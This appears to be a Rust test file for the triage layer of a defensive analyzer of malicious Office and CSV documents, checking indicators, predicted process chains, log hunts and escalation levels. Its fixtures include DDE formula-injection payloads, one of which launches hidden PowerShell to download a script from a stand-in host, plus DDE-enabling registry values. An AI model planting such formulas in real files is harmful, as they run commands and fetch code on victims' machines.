//! Each item of the card: filled from a document, and unknown or empty for lack of telemetry.

use super::*;
use crate::recorded::{Command, Finding, Gap, Indicator, Omitted, Precondition, Signal, Stage};
use crate::verdict::Verdict;
use crate::{Analyzer, Input};

const PAYLOAD: &[u8] = b"=cmd|'/c calc.exe'!A1\n";
/// Starts a program that fetches one and turns DDE on.
const CHAIN: &[u8] =
    b"=cmd|'/c powershell -w hidden -c iwr http://a.example.invalid/x.ps1 -OutFile x.ps1'!A1\n";

fn card(bytes: &[u8], context: &Context) -> Triage {
    let report = Analyzer::default().analyze(Input::new(bytes).name("prices.csv"));
    triage(&report, context)
}

fn report(findings: Vec<Finding>) -> RecordedReport {
    let bare = Analyzer::default().analyze(b"".as_slice());
    let mut report = RecordedReport::from(&bare);
    report.score = findings.iter().map(|f| f.score).max().unwrap_or(0);
    report.verdict = match report.score {
        80.. => Verdict::Malicious,
        50.. => Verdict::Suspicious,
        _ => Verdict::Clean,
    };
    report.findings = findings;
    report
}

fn finding(kind: &str, carrier: &str, score: u8) -> Finding {
    Finding {
        kind: kind.to_owned(),
        carrier: carrier.to_owned(),
        score,
        fingerprint: "f00d".to_owned(),
        ..Finding::default()
    }
}

fn starting(score: u8) -> Finding {
    Finding {
        command: Some(Command {
            line: "cmd.exe /c calc.exe".to_owned(),
            image: Some("cmd.exe".to_owned()),
            arguments: Some("/c calc.exe".to_owned()),
            ..Command::default()
        }),
        ..finding("dde-auto", "field", score)
    }
}

fn with_rule(mut finding: Finding, rule: &str) -> Finding {
    finding.signals.push(Signal {
        rule: rule.to_owned(),
        ..Signal::default()
    });
    finding
}

fn seen(kind: ObservedKind, chain: Option<&str>, quality: MatchQuality) -> Observed {
    Observed {
        chain: chain.map(str::to_owned),
        host: Some("pc1".to_owned()),
        ..Observed::new(kind, "sysmon 1", quality)
    }
}

fn ids(actions: &[Action]) -> Vec<&str> {
    actions.iter().map(|action| action.id).collect()
}

fn answer(card: &Triage, id: &str) -> Answer {
    let question = card.questions.iter().find(|question| question.id == id);
    question.unwrap().answer
}

fn indicator(card: &Triage, id: &str) -> Answer {
    let indicator = card.indicators.iter().find(|indicator| indicator.id == id);
    indicator.unwrap().answer
}

#[test]
fn key_indicators_and_questions_know_what_they_do_not_know() {
    let alone = card(PAYLOAD, &Context::new());
    assert_eq!(indicator(&alone, "dde-payload"), Answer::Yes);
    assert_eq!(indicator(&alone, "dde-enabled"), Answer::Unknown);
    assert_eq!(indicator(&alone, "office-child-process"), Answer::Unknown);
    assert!(
        alone
            .questions
            .iter()
            .all(|q| q.answer == Answer::Unknown && !q.because.is_empty())
    );
    let clean = card(b"", &Context::new());
    assert_eq!(indicator(&clean, "dde-payload"), Answer::No);
    assert_eq!(answer(&clean, "above-baseline"), Answer::No);
    let mut incomplete = report(Vec::new());
    incomplete.complete = false;
    let incomplete = triage(&incomplete, &Context::new());
    assert_eq!(indicator(&incomplete, "dde-payload"), Answer::Unknown);
}

#[test]
fn questions_are_answered_by_the_context() {
    let chain = card(PAYLOAD, &Context::new()).predicted[0].id.clone();
    let event = seen(ObservedKind::Process, Some(&chain), MatchQuality::Exact);
    let enabling = seen(ObservedKind::RegistryEnable, None, MatchQuality::Exact);
    let context = Context::new()
        .sender(SenderTrust::Spoofed)
        .baseline(0, Some("2026-01-01"))
        .related_phishing(true)
        .observed([event, enabling]);
    let told = card(PAYLOAD, &context);
    for (id, expected) in [
        ("trusted-source", Answer::No),
        ("above-baseline", Answer::Yes),
        ("unusual-child-process", Answer::Yes),
        ("related-phishing", Answer::Yes),
        ("opened", Answer::Yes),
        ("would-run", Answer::Yes),
    ] {
        assert_eq!(answer(&told, id), expected, "{id}");
    }
    assert_eq!(indicator(&told, "dde-enabled"), Answer::Yes);
    assert_eq!(indicator(&told, "office-child-process"), Answer::Yes);
    let context = Context::new()
        .sender(SenderTrust::Known)
        .baseline(7, None)
        .related_phishing(false)
        .opened(false)
        .host_value("DisableDDEServerLaunch", 1)
        .observed([]);
    let told = card(PAYLOAD, &context);
    for id in [
        "above-baseline",
        "unusual-child-process",
        "related-phishing",
        "opened",
        "would-run",
    ] {
        assert_eq!(answer(&told, id), Answer::No, "{id}");
    }
    assert_eq!(answer(&told, "trusted-source"), Answer::Yes);
    assert_eq!(indicator(&told, "dde-enabled"), Answer::No);
}

#[test]
fn the_chain_is_predicted_and_never_observed() {
    let card = card(CHAIN, &Context::new());
    assert!(card.observed.is_empty());
    let chain = &card.predicted[0];
    assert_eq!(chain.parents, ["excel.exe"]);
    let cmd = chain.process.as_ref().unwrap();
    assert_eq!(cmd.image, "cmd.exe");
    assert!(cmd.terms.contains(&"/c".to_owned()), "{cmd:#?}");
    assert_eq!(cmd.children[0].image, "powershell.exe");
    assert!(
        chain
            .network
            .iter()
            .any(|url| url.contains("a.example.invalid"))
    );
    assert!(
        chain
            .prompts
            .iter()
            .any(|prompt| prompt.text.contains("start application CMD.EXE?")),
        "{chain:#?}"
    );
    assert!(
        card.iocs
            .iter()
            .any(|ioc| ioc.kind == "url" && ioc.defanged.starts_with("hxxp"))
    );
    let clean = triage(&report(Vec::new()), &Context::new());
    assert!(clean.predicted.is_empty() && clean.iocs.is_empty());
}

#[test]
fn the_parent_is_the_program_that_has_the_carrier() {
    for (carrier, path, format, expected) in [
        ("field", "a.doc", "zip", &["winword.exe"][..]),
        ("field", "a.odt", "odt", &["soffice.bin", "winword.exe"]),
        ("field", "mail.eml", "eml", &["outlook.exe"]),
        ("formula", "mail.eml", "eml", &["excel.exe"]),
        ("formula", "a.accdb", "access", &["msaccess.exe"]),
        ("dde-declaration", "x", "ods", &["soffice.bin", "excel.exe"]),
        ("ole-link", "A.PPTX", "zip", &["powerpnt.exe"]),
        ("hyperlink", "x", "xlsx", &["excel.exe"]),
        (
            "aura",
            "x",
            "other",
            &["winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe"],
        ),
    ] {
        let mut found = starting(90);
        found.carrier = carrier.to_owned();
        found.location.path = vec!["a.zip".to_owned(), path.to_owned(), "part.xml".to_owned()];
        let mut report = report(vec![found]);
        report.document.format = format.to_owned();
        let card = triage(&report, &Context::new());
        assert_eq!(card.predicted[0].parents, expected, "{carrier} in {path}");
    }
}

#[test]
fn other_readings_are_chains_of_their_own() {
    let mut found = starting(90);
    let mut other = found.command.clone().unwrap();
    found.alternatives.push(crate::recorded::Alternative {
        command: Some(other.clone()),
        ..Default::default()
    });
    other.image = Some("mshta.exe".to_owned());
    for _ in 0..2 {
        found.alternatives.push(crate::recorded::Alternative {
            command: Some(other.clone()),
            ..Default::default()
        });
    }
    let card = triage(&report(vec![found.clone(), found]), &Context::new());
    let ids: Vec<_> = card.predicted.iter().map(|chain| &*chain.id).collect();
    assert_eq!(ids, ["f00d", "f00d-1"]);
    assert_eq!(card.predicted[1].confidence, "low");
}

#[test]
fn preconditions_name_keys_values_and_defaults() {
    let told = card(PAYLOAD, &Context::new());
    let launch = told
        .preconditions
        .iter()
        .find(|p| p.id == "excel-server-launch")
        .unwrap();
    assert_eq!(launch.name, Some("DisableDDEServerLaunch"));
    assert_eq!(launch.values, [0]);
    assert!(launch.keys[1].contains(r"\Policies\"), "{launch:#?}");
    assert!(launch.by_default.contains("2018"));
    assert_eq!(launch.met, Answer::Unknown);
    for (data, met) in [(0, Answer::Yes), (1, Answer::No)] {
        let context = Context::new().host_value("disableddeserverlaunch", data);
        let told = card(PAYLOAD, &context);
        let launch = told
            .preconditions
            .iter()
            .find(|p| p.id == "excel-server-launch");
        assert_eq!(launch.unwrap().met, met);
    }
    assert!(card(b"", &Context::new()).preconditions.is_empty());
}

#[test]
fn every_setting_is_one_that_preconditions_name() {
    let all = crate::precondition::texts();
    for setting in settings::SETTINGS {
        let named = all.iter().any(|(id, needs)| {
            *id == setting.id
                && needs.contains(setting.name)
                && setting.keys[0].contains(r"<version>")
        });
        assert!(named, "{} {}", setting.id, setting.name);
    }
}

#[test]
fn hunts_name_the_fields_of_each_log() {
    let mut found = starting(95);
    found.command.as_mut().unwrap().stages.push(Stage {
        image: Some("powershell.exe".to_owned()),
        arguments: Some(r"-w hidden %TEMP%\x.ps1".to_owned()),
        ..Stage::default()
    });
    for (kind, value) in [
        ("url", "http://a.example.invalid:8080/x"),
        ("ip", "192.0.2.1"),
        ("file-path", r"%TEMP%\x.ps1"),
        (
            "registry-value",
            r"HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Security\AllowDDE=2",
        ),
    ] {
        found.indicators.push(Indicator {
            kind: kind.to_owned(),
            value: value.to_owned(),
            ..Indicator::default()
        });
    }
    found.preconditions.push(Precondition {
        id: "allow-dde".to_owned(),
        ..Precondition::default()
    });
    let mut report = report(vec![found]);
    report.document.name = Some(r"C:\mail\q.docx".to_owned());
    let card = triage(&report, &Context::new());
    let of = |log: &str, event: u16| {
        let hunts = card
            .hunts
            .iter()
            .filter(move |h| h.log == log && h.event == event);
        let fields = hunts.flat_map(|hunt| &hunt.fields);
        let texts =
            fields.map(|f| format!("{} {} {}", f.name, f.compare.as_str(), f.values.join("|")));
        texts.collect::<Vec<_>>()
    };
    assert_eq!(
        of("sysmon", 1),
        [
            r"ParentImage ends-with \winword.exe",
            r"Image ends-with \cmd.exe",
            "CommandLine contains-all /c|calc.exe",
            r"ParentImage ends-with \cmd.exe",
            r"Image ends-with \powershell.exe",
            "CommandLine contains-all -w|hidden",
        ]
    );
    assert_eq!(
        of("security", 4688)[1],
        r"NewProcessName ends-with \cmd.exe"
    );
    let network = of("sysmon", 3);
    assert!(
        network.contains(&"DestinationIp equals 192.0.2.1".to_owned()),
        "{network:?}"
    );
    assert!(network.contains(&"DestinationHostname equals a.example.invalid".to_owned()));
    assert_eq!(of("sysmon", 22)[1], "QueryName equals a.example.invalid");
    assert_eq!(of("sysmon", 11)[1], r"TargetFilename ends-with \x.ps1");
    assert_eq!(
        of("sysmon", 15),
        [r"TargetFilename ends-with \q.docx:Zone.Identifier"]
    );
    assert_eq!(
        of("sysmon", 13),
        [
            r"TargetObject ends-with \Software\Microsoft\Office\16.0\Word\Security\AllowDDE",
            "Details contains-all DWORD (0x00000002)",
            r"TargetObject ends-with \Word\Security\AllowDDE",
            "Details equals DWORD (0x00000001)|DWORD (0x00000002)",
        ]
    );
    assert_eq!(
        of("security", 4657)[2..],
        [
            r"ObjectName ends-with \Word\Security",
            "ObjectValueName equals AllowDDE",
            "NewValue equals 1|2",
        ]
    );
    assert!(
        triage(&tests::report(Vec::new()), &Context::new())
            .hunts
            .is_empty()
    );
}

#[test]
fn the_table_of_levels_row_by_row() {
    let none = Context::new;
    let exact = |kind, chain| none().observed([seen(kind, chain, MatchQuality::Exact)]);
    let image = |chain| none().observed([seen(ObservedKind::Process, chain, MatchQuality::Image)]);
    let (process, enable) = (ObservedKind::Process, ObservedKind::RegistryEnable);
    let payload = ObservedKind::RegistryPayload;
    let benign = with_rule(finding("dde", "formula", 0), "benign-service");
    let mut allowed = starting(100);
    allowed.allowed = true;
    let template = finding("external-link", "remote-template", 70);
    let unknown = with_rule(finding("dde", "formula", 25), "unknown-service");
    let trusted = || none().sender(SenderTrust::Trusted);
    for (row, findings, context, level, reason) in [
        (
            "ran",
            vec![starting(95)],
            exact(process, Some("f00d")),
            Level::Contain,
            "ran",
        ),
        (
            "value",
            vec![starting(95)],
            exact(payload, Some("f00d")),
            Level::Contain,
            "ran",
        ),
        (
            "image",
            vec![starting(60)],
            image(Some("f00d")),
            Level::EscalateT2,
            "logs show",
        ),
        (
            "other chain",
            vec![starting(60)],
            exact(process, Some("x")),
            Level::L1Review,
            "reaches out",
        ),
        (
            "no chain",
            vec![starting(60)],
            exact(process, None),
            Level::L1Review,
            "reaches out",
        ),
        (
            "enabled",
            vec![],
            exact(enable, None),
            Level::EscalateT2,
            "lets DDE run",
        ),
        (
            "executes",
            vec![starting(95)],
            none(),
            Level::EscalateT2,
            "attacker's choice",
        ),
        (
            "would enable",
            vec![with_rule(starting(60), "enables-dde")],
            none(),
            Level::EscalateT2,
            "settings",
        ),
        (
            "phishing",
            vec![starting(60)],
            none().related_phishing(true),
            Level::EscalateT2,
            "phishing",
        ),
        (
            "spoofed",
            vec![starting(60)],
            none().sender(SenderTrust::Spoofed),
            Level::EscalateT2,
            "phishing",
        ),
        (
            "suspicious",
            vec![starting(60)],
            trusted(),
            Level::L1Review,
            "reaches out",
        ),
        (
            "template",
            vec![template],
            trusted(),
            Level::L1Review,
            "elsewhere",
        ),
        (
            "unknown",
            vec![unknown],
            trusted(),
            Level::L1Review,
            "not known",
        ),
        (
            "spoofed clean",
            vec![],
            none().sender(SenderTrust::Spoofed),
            Level::L1Review,
            "spoofed",
        ),
        (
            "feed, trusted",
            vec![benign.clone()],
            trusted(),
            Level::Close,
            "known service",
        ),
        (
            "feed",
            vec![benign],
            none(),
            Level::L1Review,
            "not known to be trusted",
        ),
        (
            "allowed",
            vec![allowed],
            none(),
            Level::Close,
            "policy allows",
        ),
        (
            "nothing",
            vec![],
            none(),
            Level::Close,
            "nothing reaches out",
        ),
    ] {
        let mut report = report(findings);
        if row == "allowed" {
            report.verdict = Verdict::Clean;
        }
        let told = triage(&report, &context).escalation;
        assert_eq!(told.level, level, "{row}: {told:?}");
        let said = told.reasons.iter().any(|text| text.contains(reason));
        assert!(
            said && (level != Level::Close || told.reasons.len() == 1),
            "{row}: {told:?}"
        );
    }
}

#[test]
fn what_was_not_read_is_never_closed() {
    let gap = Gap {
        kind: "encrypted".to_owned(),
        ..Gap::default()
    };
    let trusted = Context::new().sender(SenderTrust::Trusted).observed([]);
    let mut gaps = report(Vec::new());
    gaps.gaps.push(gap);
    let mut says_so = report(Vec::new());
    says_so.complete = false;
    let mut verdict = report(Vec::new());
    verdict.verdict = Verdict::Incomplete;
    let mut omitted = report(Vec::new());
    omitted.omitted.push(Omitted {
        highest_score: 60,
        ..Omitted::default()
    });
    let mut newer = report(Vec::new());
    newer.verdict = Verdict::Malicious;
    for report in [&gaps, &says_so, &verdict, &omitted, &newer] {
        let card = triage(report, &trusted);
        assert!(card.escalation.level > Level::Close, "{report:?}");
    }
    let card = triage(&gaps, &trusted);
    assert!(!card.document.complete);
    assert!(
        card.escalation
            .unmet
            .iter()
            .any(|text| text.contains("not read"))
    );
    assert_eq!(card.evidence.gaps.len(), 1);
    assert_eq!(ids(&card.next_steps), ["get-password"]);
}

#[test]
fn what_is_missing_is_said_until_it_is_there() {
    let unmet = |context: &Context| card(PAYLOAD, context).escalation.unmet;
    assert_eq!(unmet(&Context::new()).len(), 5);
    let full = Context::new()
        .sender(SenderTrust::Unknown)
        .opened(true)
        .related_phishing(false)
        .host_value("DisableDDEServerLaunch", 0)
        .host_value("DisableDDEServerLookup", 0)
        .host_value("DontUpdateLinks", 0)
        .observed([]);
    assert_eq!(unmet(&full), Vec::<String>::new());
}

#[test]
fn actions_stand_only_where_their_evidence_does() {
    let alone = card(CHAIN, &Context::new());
    assert_eq!(
        ids(&alone.next_steps),
        [
            "verify-source",
            "check-settings",
            "search-chain",
            "search-network",
            "find-siblings"
        ]
    );
    assert_eq!(ids(&alone.t2_actions), ["fetch-next-stage", "correlate"]);
    assert_eq!(ids(&alone.containment), ["block-addresses"]);
    let chain = alone.predicted[0].id.clone();
    let context = Context::new().mail(true).observed([
        seen(ObservedKind::Process, Some(&chain), MatchQuality::Terms),
        seen(ObservedKind::RegistryEnable, None, MatchQuality::Exact),
    ]);
    let ran = card(CHAIN, &context);
    assert_eq!(
        ids(&ran.t2_actions),
        [
            "examine-host",
            "capture-memory",
            "fetch-next-stage",
            "explain-change"
        ]
    );
    assert_eq!(
        ids(&ran.containment),
        [
            "isolate-host",
            "terminate-process",
            "review-account",
            "restore-settings",
            "block-addresses",
            "purge-mail"
        ]
    );
    assert!(ran.containment[0].text.contains("pc1"));
    let clean = card(b"", &Context::new());
    assert!(
        clean.next_steps.is_empty() && clean.t2_actions.is_empty() && clean.containment.is_empty()
    );
}

#[test]
fn provenance_is_what_the_document_says_and_the_context_knows() {
    let mut known = report(vec![finding("dde", "field", 60)]);
    known.findings[0].location.path = ["mail.eml", "q.zip", "q.docx"].map(str::to_owned).into();
    known.document.properties.author = Some("A".to_owned());
    let context = Context::new().zone(3).first_seen("2026-02-03");
    let told = triage(&known, &context).provenance;
    assert_eq!((told.author.as_deref(), told.zone), (Some("A"), Some(3)));
    assert_eq!(told.first_seen.as_deref(), Some("2026-02-03"));
    assert_eq!(told.containers, ["mail.eml", "q.zip"]);
    let told = triage(&report(Vec::new()), &Context::new()).provenance;
    assert!(told.author.is_none() && told.zone.is_none() && told.containers.is_empty());
}

#[test]
fn stages_of_a_report_that_somebody_wrote_are_counted() {
    let mut found = starting(90);
    let stage = Stage {
        image: Some("a.exe".to_owned()),
        ..Stage::default()
    };
    let hidden = Stage {
        stages: vec![stage.clone(); 500],
        ..Stage::default()
    };
    found.command.as_mut().unwrap().stages = vec![hidden];
    let card = triage(&report(vec![found]), &Context::new());
    let process = card.predicted[0].process.as_ref().unwrap();
    assert_eq!(process.children.len(), 63);
}

#[cfg(feature = "serde")]
#[test]
fn the_card_is_the_same_from_memory_and_from_json_every_time() {
    let report = Analyzer::default().analyze(Input::new(CHAIN).name("prices.csv"));
    let json = serde_json::to_vec(&report).unwrap();
    let read = RecordedReport::from_json(&json).unwrap();
    let context = Context::new().opened(true);
    let card = triage(&read, &context);
    assert_eq!(card, triage(&report, &context));
    let text = serde_json::to_string(&card).unwrap();
    assert_eq!(
        text,
        serde_json::to_string(&triage(&read, &context)).unwrap()
    );
    let newer = String::from_utf8(json).unwrap();
    let newer = newer.replace("\"carrier\":\"", "\"carrier\":\"new-");
    let newer = RecordedReport::from_json(newer.as_bytes()).unwrap();
    assert_eq!(
        triage(&newer, &context).escalation.level,
        card.escalation.level
    );
}

#[cfg(feature = "serde")]
#[test]
fn a_context_is_read_from_json_and_a_misspelt_one_is_not() {
    let json = r#"{"sender":"spoofed","zone":3,"host_values":[{"name":"AllowDDE","data":2}],
        "baseline":{"documents":0},"observed":[{"kind":"process","chain":"f","source":"sysmon 1","quality":"terms"}]}"#;
    let context: Context = serde_json::from_str(json).unwrap();
    assert_eq!(context.sender, Some(SenderTrust::Spoofed));
    assert_eq!(context.observed[0].quality, MatchQuality::Terms);
    assert!(serde_json::from_str::<Context>(r#"{"sendr":"spoofed"}"#).is_err());
}

#[cfg(feature = "serde")]
#[test]
fn the_page_names_every_field_of_the_card() {
    let page = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/triage.md");
    let page = std::fs::read_to_string(page).unwrap();
    let rows = page.lines().filter(|line| line.starts_with("| "));
    let mut named: Vec<_> = rows
        .flat_map(|row| row.split('`').skip(1).step_by(2))
        .collect();
    named.sort_unstable();
    let card = serde_json::to_value(card(PAYLOAD, &Context::new())).unwrap();
    let fields: Vec<_> = card
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut fields: Vec<_> = fields
        .into_iter()
        .filter(|field| *field != "schema")
        .collect();
    fields.sort_unstable();
    assert_eq!(named, fields);
}

#[test]
fn the_corpus_is_closed_only_where_it_is_clean() {
    let mut folders = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus")];
    let (mut closed, mut open) = (0, 0);
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            let name = path.file_name().unwrap().to_string_lossy();
            let report = Analyzer::default().analyze(Input::new(&bytes).name(&name));
            let card = triage(&report, &Context::new());
            let level = card.escalation.level;
            match report.verdict() {
                Verdict::Clean => assert!(level <= Level::L1Review, "{name}: {level:?}"),
                Verdict::Incomplete | Verdict::Suspicious => {
                    assert!(level >= Level::L1Review, "{name}: {level:?}");
                }
                Verdict::Malicious => {
                    assert_eq!(level, Level::EscalateT2, "{name}");
                    let chain = card
                        .predicted
                        .iter()
                        .find_map(|chain| chain.process.as_ref());
                    assert!(chain.is_some(), "{name}");
                }
            }
            match level {
                Level::Close => closed += 1,
                Level::L1Review | Level::EscalateT2 | Level::Contain => open += 1,
            }
        }
    }
    assert!(closed > 10 && open > 50, "{closed} closed, {open} open");
}
